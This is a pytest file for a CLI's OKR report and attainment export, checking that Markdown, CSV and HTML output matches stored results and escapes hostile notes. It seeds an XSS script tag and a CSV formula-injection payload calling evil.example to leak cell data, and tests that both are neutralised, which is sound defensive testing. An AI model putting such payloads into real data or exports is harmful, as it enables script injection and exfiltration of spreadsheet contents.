"""`okrsync report --format md|csv|html` and `okrsync export attainment` as a user runs them (each in its own
process against a synced, computed sandbox world), checked against the stored results; escaping of notes and
titles in Markdown, formula injection in CSV, and bad input."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack
from datetime import date, timedelta
from pathlib import Path

import pytest
import sqlmodel
from sqlalchemy.engine import Engine
from sqlmodel import Session
from typer.testing import CliRunner

from service.checkins import service as checkins
from service.cli import app
from service.compute import report_formats
from service.compute.models import HygieneSummary, KamAccountScore, KeyResultValue, ObjectiveValue
from service.compute.report import format_value
from service.compute.service import compute
from service.okrs import service as okrs
from service.okrs.models import OkrMapping
from service.sprints import service as sprints
from service.sprints.models import SprintResult
from tests.conftest import ANCHOR, fast_config
from tests.service.writeback.world import (
    EXAMPLES,
    SalesforceWorld,
    apply_examples,
    connection,
    deployed_org,
    start_salesforce,
)

WEEKS = [ANCHOR - timedelta(days=14), ANCHOR - timedelta(days=7), ANCHOR]  # the last one is the quarter's last day
ACQUISITION, HYGIENE, CARE = "Vertrieb DACH / Q3 2026", "Vertrieb DACH / Q3 2026 hygiene", "Key Accounts / Q3 2026"
NASTY_NOTE = "<script>alert(1)</script> trade fair | next week\nsecond line"
FORMULA_NOTE = '=HYPERLINK("https://evil.example/?d="&A1,"details")'


@pytest.fixture
def world(engine: Engine, tmp_path: Path) -> Iterator[SalesforceWorld]:
    """The three examples computed weekly up to the quarter's end, a frozen check-in with hostile notes, and the
    retrospectives of sprints 2 and 3."""
    with ExitStack() as stack:
        world = start_salesforce(stack, engine, tmp_path, deployed_org(), fast_config)
        apply_examples(engine, "salesforce", ("acquisition", "pipeline-hygiene", "customer-care"), as_of=WEEKS[0])
        with Session(engine) as session:
            for mapping in okrs.mappings(session):
                for week in WEEKS[1:]:
                    compute(session, mapping=mapping, as_of=week)
            acquisition = okrs.find_mapping(session, ACQUISITION)
            checkins.freeze(
                session, acquisition, author="team lead", attendees=["Anna Berger", "David Garcia"],
                confidence={"discovery-meetings": 7, "new-pipeline": "at_risk"},
                notes={"discovery-meetings": NASTY_NOTE, "new-pipeline": FORMULA_NOTE},
                note="Good week | <b>all</b> there", at=ANCHOR,
            )  # fmt: skip
            for key, improvement in (
                ("acquisition-sprint-2", "Prepare <b>meeting</b> agendas | share them"),
                ("acquisition-sprint-3", "Call *before* the trade fair"),
            ):
                sprints.record_retrospective(
                    session, acquisition, key, improvement=improvement, went_well="Trade fair", carried_done=None,
                    note=None, author="lead", at=ANCHOR,
                )  # fmt: skip
            session.commit()
        yield world


def okrsync(path: Path, db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OKRSYNC_")}
    env.update(OKRSYNC_DATA_DIR=str(path), OKRSYNC_DATABASE_URL=db_url, COLUMNS="200")
    return subprocess.run(
        [sys.executable, "-m", "service.cli", *args], env=env, cwd=path, capture_output=True, text=True, timeout=120
    )


def _mapping(engine: Engine, name: str) -> OkrMapping:
    with Session(engine) as session:
        return okrs.find_mapping(session, name)


def _values(engine: Engine, mapping: OkrMapping) -> dict[str, KeyResultValue]:
    with Session(engine) as session:
        rows = session.exec(sqlmodel.select(KeyResultValue).where(KeyResultValue.mapping_id == mapping.id)).all()
        return {v.kr_key: v for v in rows}


def _cells(line: str) -> list[str]:
    assert line.startswith("| ") and line.endswith(" |") or line.startswith("|---"), line
    return [cell.strip() for cell in re.split(r"(?<!\\)\|", line[1:-1])]


def tables(markdown: str) -> list[list[list[str]]]:
    """Every Markdown table as rows of cells, checked to be well-formed: a delimiter row, and every row with the
    header's number of columns (an unescaped pipe or newline in a cell would break that)."""
    blocks: list[list[str]] = [[]]
    for line in markdown.splitlines():
        if line.startswith("|"):
            blocks[-1].append(line)
        elif blocks[-1]:
            blocks.append([])
    found = []
    for block in (b for b in blocks if b):
        rows = [_cells(line) for line in block]
        assert len(rows) >= 2 and set(block[1]) <= {"|", "-"}, block
        assert {len(row) for row in rows} == {len(rows[0])}, block
        found.append([rows[0], *rows[2:]])
    return found


def _table(found: list[list[list[str]]], *header: str) -> list[list[str]]:
    """The one table whose header starts with ``header``."""
    [table] = [table for table in found if table[0][: len(header)] == list(header)]
    return table


def _tables(found: list[list[list[str]]], *header: str) -> list[list[str]]:
    """Every table whose header starts with ``header`` (one per objective), as one: the header, then all rows."""
    tables = [table for table in found if table[0][: len(header)] == list(header)]
    assert tables, f"no table headed {header}"
    return [tables[0][0], *(row for table in tables for row in table[1:])]


def _row(table: list[list[str]], first_cell: str) -> list[str]:
    [row] = [row for row in table[1:] if row[0] == first_cell]
    return row


@pytest.mark.slow  # okrsync in a subprocess
def test_markdown_check_in_shows_what_is_stored_and_keeps_notes_inert(
    world: SalesforceWorld, db_url: str, tmp_path: Path
) -> None:
    mapping = _mapping(world.engine, ACQUISITION)
    result = okrsync(tmp_path, db_url, "report", "--mapping", str(mapping.id), "--format", "md")
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.startswith("# Weekly check-in: Vertrieb DACH — Q3 2026\n")
    assert "2026-07-01 to 2026-09-30 · as of 2026-09-30 18:00 UTC · salesforce/sandbox" in text
    found = tables(text)
    values = _values(world.engine, mapping)
    with Session(world.engine) as session:
        config = okrs.current_config(session, mapping)
        trends = {kr.key: checkins.trend(session, mapping, kr.key) for _o, kr in config.key_results()}
    assert "## We open doors to new customers" in text and "## Every new lead hears from us the same day" in text
    key_results = _tables(found, "Key result", "Value", "Target", "Progress", "Expected by now", "Status")
    assert len(key_results) - 1 == len(values) == 7
    for _objective, kr in config.key_results():
        stored = values[kr.key]
        row = _row(key_results, report_formats.md(kr.title))
        assert row[1] == format_value(kr.metric, stored.value) and row[2] == format_value(kr.metric, kr.target)
        assert row[3] == f"{stored.progress:.0%}" and row[4] == f"{stored.expected:.0%}"
        assert row[5] == stored.status.replace("_", " ")
        change = trends[kr.key].change_7d
        assert change is not None  # three weekly computations
        sign = "+" if change >= 0 else "−"
        if format_value(kr.metric, kr.target).endswith("%"):  # a share changes by percentage points
            assert row[6] == f"{sign}{abs(change) * 100:.0f} pp", kr.key
        else:
            assert row[6] == sign + format_value(kr.metric, abs(change))
    meetings = _row(key_results, "150 meetings with prospects")
    assert meetings[7].count(",") == 2  # the three largest contributions

    # the sprint: sprint 3 is the last one (the quarter is over), sprint 2's improvement is carried into it
    with Session(world.engine) as session:
        result_3 = session.get(SprintResult, (mapping.id, "acquisition-sprint-3"))
    assert result_3 is not None and result_3.achieved is not None
    assert "### Acquisition sprint 3" in text and "- **Goal:** New pipeline before the quarter closes" in text
    assert "- **Committed:** 10\n" in text and f"- **Achieved:** {result_3.achieved:g}\n" in text
    assert "- **State:** ended" in text
    assert "- **Improvement carried in:** Prepare &lt;b&gt;meeting&lt;/b&gt; agendas \\| share them" in text
    assert "- **Retrospective improvement:** Call \\*before\\* the trade fair" in text
    assert "Forecast accuracy: " in text and "over 3 ended sprint(s)" in text
    gains = _table(found, "Key result", "Gain during the sprint")
    assert [row[0] for row in gains[1:]] == [
        "€6M new pipeline created",
        report_formats.md(config.key_result("meetings-to-opportunities").title),
    ]
    assert _row(gains, "€6M new pipeline created")[1] == "+" + format_value(
        config.key_result("new-pipeline").metric, result_3.gains["new-pipeline"]
    )

    # the latest frozen check-in, with the hostile note escaped: no markup, no broken table
    assert "Attendees: Anna Berger, David Garcia" in text
    assert "Note: Good week \\| &lt;b&gt;all&lt;/b&gt; there" in text
    assert "<script>" not in text and "<b>" not in text
    frozen = _table(found, "Key result", "Value", "Status", "Confidence", "Note")
    discovery = _row(frozen, "150 meetings with prospects")
    assert discovery[3] == "7"
    assert discovery[4] == "&lt;script&gt;alert(1)&lt;/script&gt; trade fair \\| next week<br>second line"
    pipeline = _row(frozen, "€6M new pipeline created")
    assert pipeline[3] == "at risk"  # a confidence word reads like a status

    german = okrsync(
        tmp_path, db_url, "report", "--mapping", ACQUISITION, "--format", "md", "--lang", "de",
        "--output", str(tmp_path / "check-in.md"),
    )  # fmt: skip
    assert german.returncode == 0, german.stderr
    assert german.stdout == "" and "check-in.md" in german.stderr
    de = (tmp_path / "check-in.md").read_text(encoding="utf-8")
    assert de.startswith("# Wöchentlicher Check-in: Vertrieb DACH — Q3 2026\n")
    assert "| Key Result | Wert | Ziel | Fortschritt |" in de and "## Letzter Check-in" in de
    assert [len(t[0]) for t in tables(de)] == [len(t[0]) for t in found]  # the same tables, German labels


@pytest.mark.slow  # okrsync in a subprocess
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the queries are the check-in's, run on both above
def test_markdown_hygiene_and_key_accounts(world: SalesforceWorld, db_url: str, tmp_path: Path) -> None:
    hygiene = _mapping(world.engine, HYGIENE)
    result = okrsync(tmp_path, db_url, "report", "--mapping", HYGIENE, "--format", "md")
    assert result.returncode == 0, result.stderr
    found = tables(result.stdout)
    with Session(world.engine) as session:
        summary = {
            s.rule_key: s
            for s in session.exec(sqlmodel.select(HygieneSummary).where(HygieneSummary.mapping_id == hygiene.id))
        }
    total = summary.pop("*")
    assert total.score is not None
    assert f"{total.score:.0%} of {total.open_opportunities} open opportunities pass every rule" in result.stdout
    rules = _table(found, "Rule", "Violations")
    assert {rule: int(count) for rule, count in rules[1:]} == {k: s.violations for k, s in summary.items()}
    worst = _table(found, "Opportunity", "Owner", "Problems")
    assert 1 <= len(worst) - 1 <= 10 and all(row[2] for row in worst[1:])
    assert "No sprint in this cycle." not in result.stdout  # the hygiene example has a sprint

    care = okrsync(tmp_path, db_url, "report", "--mapping", CARE, "--format", "md")
    assert care.returncode == 0, care.stderr
    accounts = _table(tables(care.stdout), "Account", "KAM", "Score")
    assert len(accounts) > 1
    with Session(world.engine) as session:
        scores = session.exec(
            sqlmodel.select(KamAccountScore.score).where(KamAccountScore.mapping_id == _mapping(world.engine, CARE).id)
        ).all()
    assert len(accounts) - 1 == len(scores)
    assert f"{sum(1 for s in scores if s >= 1)} of {len(scores)} key accounts meet all criteria" in care.stdout
    assert "No sprint in this cycle." in care.stdout and "No check-in recorded yet." in care.stdout


@pytest.mark.slow  # okrsync in a subprocess
def test_csv_has_one_row_per_key_result_and_guards_formulas(
    world: SalesforceWorld, db_url: str, tmp_path: Path
) -> None:
    mapping = _mapping(world.engine, ACQUISITION)
    out = tmp_path / "check-in.csv"
    result = okrsync(tmp_path, db_url, "report", "--mapping", ACQUISITION, "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    values = _values(world.engine, mapping)
    with Session(world.engine) as session:
        config = okrs.current_config(session, mapping)
        trends = {kr.key: checkins.trend(session, mapping, kr.key) for _o, kr in config.key_results()}
    assert list(rows[0]) == report_formats.REPORT_COLUMNS
    assert [r["kr_key"] for r in rows] == [kr.key for _o, kr in config.key_results()]
    for row in rows:
        stored, kr = values[row["kr_key"]], config.key_result(row["kr_key"])
        assert (row["team"], row["cycle"], row["objective_key"]) == ("Vertrieb DACH", "Q3 2026", stored.objective_key)
        assert row["kr_title"] == kr.title and row["metric"] == stored.metric
        assert float(row["value"]) == pytest.approx(stored.value, abs=1e-6)
        assert float(row["target"]) == kr.target
        assert float(row["progress"]) == pytest.approx(stored.progress, abs=1e-6)
        assert float(row["expected"]) == pytest.approx(stored.expected, abs=1e-6)
        assert row["status"] == stored.status and row["achieved"] == ("yes" if stored.achieved else "no")
        assert row["as_of"] == stored.as_of.isoformat()
        assert float(row["change_7d"]) == pytest.approx(trends[kr.key].change_7d, abs=1e-6)
    by_key = {r["kr_key"]: r for r in rows}
    assert by_key["discovery-meetings"]["confidence"] == "7" and by_key["new-pipeline"]["confidence"] == "at_risk"
    assert by_key["discovery-meetings"]["note"] == NASTY_NOTE  # CSV quotes it: the newline and pipe survive
    assert by_key["new-pipeline"]["note"] == "'" + FORMULA_NOTE  # a spreadsheet shows it, does not run it
    assert by_key["prospects-contacted"]["note"] == "" and by_key["prospects-contacted"]["confidence"] == ""


@pytest.mark.slow  # okrsync in a subprocess
def test_export_attainment_over_two_cycles(world: SalesforceWorld, db_url: str, tmp_path: Path) -> None:
    earlier = tmp_path / "q2.yaml"  # the same team one quarter earlier, sprints and all
    text = (EXAMPLES / "acquisition.yaml").read_text(encoding="utf-8")
    for q3, q2 in (
        ("Q3 2026", "Q2 2026"),
        ("2026-07-", "2026-04-"),
        ("2026-08-", "2026-05-"),
        ("2026-09-", "2026-06-"),
    ):
        text = text.replace(q3, q2)
    earlier.write_text(text, encoding="utf-8")
    with Session(world.engine) as session:
        loaded = okrs.load_path(earlier)
        q2_mapping, _version = okrs.apply(
            session, loaded, connection=connection(session, "salesforce"), author="t", reason="t", now=ANCHOR
        )
        compute(session, mapping=q2_mapping, as_of=ANCHOR)
        session.commit()
    result = okrsync(tmp_path, db_url, "export", "attainment", "--team", "Vertrieb DACH")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == report_formats.ATTAINMENT_COLUMNS
    assert [r["cycle_start"] for r in rows] == sorted(r["cycle_start"] for r in rows)
    with Session(world.engine) as session:
        expected = []
        for name in ("Vertrieb DACH / Q2 2026", ACQUISITION, HYGIENE):  # by cycle start, then team, then mapping
            mapping = okrs.find_mapping(session, name)
            config = okrs.current_config(session, mapping)
            stored = _values(world.engine, mapping)
            objectives = {
                o.objective_key: o.achieved
                for o in session.exec(sqlmodel.select(ObjectiveValue).where(ObjectiveValue.mapping_id == mapping.id))
            }
            cell = report_formats.csv_cell
            for objective, kr in config.key_results():
                value = stored[kr.key]
                expected.append(
                    {
                        "team": mapping.team, "cycle": mapping.cycle, "cycle_start": str(mapping.cycle_start),
                        "cycle_end": str(mapping.cycle_end), "connection": "salesforce/sandbox",
                        "objective_key": objective.key, "objective": objective.title, "kr_key": kr.key,
                        "kr_title": kr.title, "weight": cell(kr.weight),
                        "baseline": cell(kr.baseline), "target": cell(kr.target),
                        "value": cell(value.value), "progress": cell(value.progress),
                        "grade": cell(value.grade), "achieved": "yes" if value.achieved else "no",
                        "status": value.status, "cycle_closed": "yes" if date.today() > mapping.cycle_end else "no",
                        "objective_achieved": "yes" if objectives[objective.key] else "no",
                    }
                )  # fmt: skip
    assert rows == expected
    assert {r["cycle"] for r in rows} == {"Q2 2026", "Q3 2026", "Q3 2026 hygiene"}
    assert {r["achieved"] for r in rows if r["cycle"] == "Q3 2026"} == {"yes", "no"}  # both kinds are exported

    everything = tmp_path / "attainment.csv"
    result = okrsync(
        tmp_path, db_url, "export", "attainment", "--connection", "salesforce/sandbox", "--output", str(everything)
    )
    assert result.returncode == 0, result.stderr
    with everything.open(encoding="utf-8", newline="") as file:
        teams = [r["team"] for r in csv.DictReader(file)]
    assert set(teams) == {"Vertrieb DACH", "Key Accounts"} and len(teams) == len(rows) + 4  # customer care has 4 KRs
    with Session(world.engine) as session:  # a cycle is closed only once it has ended
        during_q3 = report_formats.attainment(session, today=date(2026, 9, 15))
    assert {(r.cycle, r.cycle_closed) for r in during_q3} == {
        ("Q2 2026", True),
        ("Q3 2026", False),
        ("Q3 2026 hygiene", False),
    }


@pytest.mark.slow  # okrsync in a subprocess
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the dashboard's rendering, not the database, is tested
def test_html_is_the_dashboards_check_in_page_as_one_document(
    world: SalesforceWorld, db_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "check-in.html"
    result = okrsync(tmp_path, db_url, "report", "--mapping", ACQUISITION, "--format", "html", "--output", str(out))
    assert result.returncode == 0, result.stderr
    page = out.read_text(encoding="utf-8")
    assert page.lstrip().lower().startswith("<!doctype html>") and page.rstrip().endswith("</html>")
    assert "150 meetings with prospects" in page and "<style" in page
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page


@pytest.mark.slow  # okrsync in a subprocess
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # lookups by name: one database is enough
def test_unknown_mapping_team_and_connection_are_named(world: SalesforceWorld, db_url: str, tmp_path: Path) -> None:
    unknown = okrsync(tmp_path, db_url, "report", "--mapping", "99", "--format", "md")
    assert unknown.returncode == 1 and "no mapping '99'" in unknown.stderr and ACQUISITION in unknown.stderr
    assert unknown.stdout == ""
    team = okrsync(tmp_path, db_url, "export", "attainment", "--team", "Vertrieb Nord")
    assert team.returncode == 1 and "no mapping for team 'Vertrieb Nord'" in team.stderr
    assert "Key Accounts, Vertrieb DACH" in team.stderr
    crm = okrsync(tmp_path, db_url, "export", "attainment", "--connection", "hubspot/sandbox")
    assert crm.returncode == 1 and "no CRM connection 'hubspot/sandbox'" in crm.stderr


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=HYPERLINK(\"https://x\")", "'=HYPERLINK(\"https://x\")"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("plain | text", "plain | text"),
        (-3.0, "-3"),
        (0.123456789, "0.123457"),
        (12548800.0, "12548800"),
        (True, "yes"),
        (None, ""),
        (date(2026, 9, 30), "2026-09-30"),
    ],
    ids=["formula", "plus", "minus", "at", "tab", "cr", "plain", "negative-number", "fraction", "large", "flag",
         "none", "date"],
)  # fmt: skip
def test_csv_cell(value: object, cell: str) -> None:
    assert report_formats.csv_cell(value) == cell


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("a | b", "a \\| b"),
        ("line\nnext\r\nlast", "line<br>next<br>last"),
        ("<script>x</script>", "&lt;script&gt;x&lt;/script&gt;"),
        ("R&D", "R&amp;D"),
        ("*bold* _em_ `code`", "\\*bold\\* \\_em\\_ \\`code\\`"),
        ("[link](javascript:x) ~~s~~", "\\[link\\](javascript:x) \\~\\~s\\~\\~"),
        ("close_date_past", "close_date_past"),
        ("back\\slash", "back\\\\slash"),
    ],
    ids=["pipe", "newlines", "html", "ampersand", "emphasis-code", "link-strikethrough", "underscore-in-word",
         "backslash"],
)  # fmt: skip
def test_markdown_escaping(text: str, escaped: str) -> None:
    assert report_formats.md(text) == escaped


def test_labels_have_the_same_keys_in_both_languages() -> None:
    assert set(report_formats.LABELS) == set(report_formats.LANGUAGES)
    assert report_formats.LABELS["de"].keys() == report_formats.LABELS["en"].keys()


@pytest.mark.parametrize(
    ("args", "named"),
    [
        (["report", "--format", "pdf"], ["--format", "'pdf'", "'md'"]),
        (["report", "--format", "md", "--lang", "fr"], ["--lang", "'fr'", "'de'"]),
        (["report", "--output"], ["--output", "requires an argument"]),
    ],
    ids=["format", "lang", "output-without-file"],
)
def test_bad_options_name_the_value(args: list[str], named: list[str]) -> None:
    result = CliRunner().invoke(app, args)  # refused while parsing: nothing is opened
    assert result.exit_code == 2
    assert all(part in result.output for part in named), result.output


@pytest.mark.parametrize("args", [["report"], ["export"], ["export", "attainment"]], ids=" ".join)
def test_help(args: list[str]) -> None:
    result = CliRunner().invoke(app, [*args, "--help"])
    assert result.exit_code == 0 and "Usage" in result.output
